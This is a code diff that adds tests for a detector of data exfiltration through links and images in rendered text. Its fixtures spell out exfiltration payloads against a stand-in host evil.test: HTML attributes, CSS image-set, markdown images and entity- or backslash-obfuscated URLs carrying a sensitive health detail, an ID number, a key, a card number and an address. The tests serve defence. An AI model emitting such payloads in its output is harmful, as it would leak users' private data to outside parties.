@@ -155,6 +155,62 @@ def test_what_is_told_about_somebody_is_found_in_any_parameter(text: str) -> Non
 
 
 @pytest.mark.parametrize(
+    "element",
+    [
+        '<img srcset="{} 2x">',
+        '<svg><feImage xlink:href="{}"/></svg>',
+        '<a href="#" ping="https://good.test/ {}">next</a>',
+        '<applet codebase="{}"></applet>',
+        '<button formaction="{}">go</button>',
+        'li {{ background: image-set("{}" 1x) }}',
+        "> [logo]: {}\n\n![a][logo]",
+    ],
+)
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
+        "https:\\\\evil.test\\p.png?t=Maria%20Keller%20has%20diabetes",
+        "https:/\\evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
+        "https:&#47;&#x2f;evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
+        "https&colon;&sol;&sol;evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
+    ],
+)
+def test_what_a_browser_loads_is_found_as_a_browser_reads_it(element: str, address: str) -> None:
+    """Browsers take a backslash for a slash, and read entities; a finding spans what was written."""
+    text = element.format(address)
+    (found,) = exfiltration()(text)
+
+    assert found.span == (text.index(address), text.index(address) + len(address))
+
+
+@given(st.text(alphabet="ab:/\\&#;47xsol \n\"'(", max_size=60), st.integers(0, 3))
+def test_a_disguised_address_is_weighed_as_the_plain_one(around: str, nth: int) -> None:
+    """Whatever stands before it, and with the same score."""
+    colon, slashes = ((":", "//"), (":", "/\\"), ("&colon;", "//"), (":", "&#47;&sol;"))[nth]
+    shown = around + ' <img src="https{}{}evil.test/p.png?t=Maria%20Keller%20has%20diabetes">'
+
+    plain = exfiltration()(shown.format(":", "//"))
+    assert [found.score for found in exfiltration()(shown.format(colon, slashes))] == [
+        found.score for found in plain
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[open](https://evil.test/log/536-22-1234)",
+        "See https://evil.test/sk-proj-9fK2mQ7xT4bV1nZ8cR5w.gif for more.",
+        "[log in](https://evil.test/p.png?key=1111%201111%201111%201114)",
+        "[invoice](https://evil.test/x.png?w=1&d=the-user-lives-in-14-Elm-Street)",
+    ],
+)
+def test_what_no_page_has_in_its_address_is_found_in_a_plain_link(text: str) -> None:
+    """Keys and numbers of cards and insured people, anywhere in it, a card's also from its end."""
+    assert exfiltration()(text)
+
+
+@pytest.mark.parametrize(
     ("sink", "value"),
     [
         ("html", "<b onclick=x>"),
